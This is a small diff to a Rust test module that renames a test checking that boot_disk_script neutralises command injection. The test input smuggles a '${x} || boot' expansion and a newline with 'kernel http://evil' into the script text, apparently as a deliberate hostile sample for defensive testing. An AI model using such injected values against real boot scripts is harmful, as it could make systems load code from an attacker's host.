@@ -173,7 +173,7 @@ mod tests {
     }
 
     #[test]
-    fn words_stay_words() {
+    fn text_in_a_script_cannot_become_a_command() {
         let script = boot_disk_script("no node is ${x} || boot\nkernel http://evil");
         assert_eq!(script.lines().count(), 3, "{script}");
         assert!(!script.contains('$') && !script.contains('|'), "{script}");
